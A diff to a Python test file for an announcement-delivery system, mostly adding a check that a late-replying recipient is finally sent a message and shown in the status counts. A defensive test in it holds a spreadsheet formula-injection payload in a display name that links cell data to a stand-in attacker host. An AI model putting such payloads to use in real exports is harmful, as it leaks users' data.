@@ -25,7 +25,7 @@ from tests.announcements.helpers import (
     text_of,
     texts,
 )
-from tests.programmes.harness import RecordingSender, run_until
+from tests.programmes.harness import RecordingSender, actor, run_until
 
 AUDIENCE = "kenji@example.com, lucy@example.com, maria@example.com, zoe@example.com"  # Zoe never wrote
 
@@ -83,12 +83,18 @@ async def test_done_only_once_nothing_is_pending(
     assert "(done)" in texts(await say(runtime, ADA, "announcement 1"))
     assert list((await delivery(runtime)).values()) == ["sent", "sent", "sent", "unreachable"]
 
+    # Zoe writes to the coach at last, long after the status job stopped looking: hers goes, and the
+    # author's status message says so (#13: it stayed "Unreachable: 1" for good).
+    await say(runtime, actor("zoe@example.com", "Europe/London"), "hi")
+    await run_until(runtime, clock, clock.now() + timedelta(days=1))
+    late = status(sender)
+    assert "(done)" in late and "Sent: 4" in late and "Pending: 0" in late and "Unreachable: 0" in late
+    assert list((await delivery(runtime)).values()) == ["sent", "sent", "sent", "sent"]
+
 
 async def test_names_from_profiles_cannot_become_spreadsheet_formulas(
     runtime: Runtime, sender: RecordingSender
 ) -> None:
-    from tests.programmes.harness import actor
-
     evil = actor("eve@example.com", "Europe/London")
     evil = type(evil)(**{**evil.__dict__, "display_name": '=HYPERLINK("https://evil.example/?"&A2,"Eve")'})
     await say(runtime, ADA, "hi")
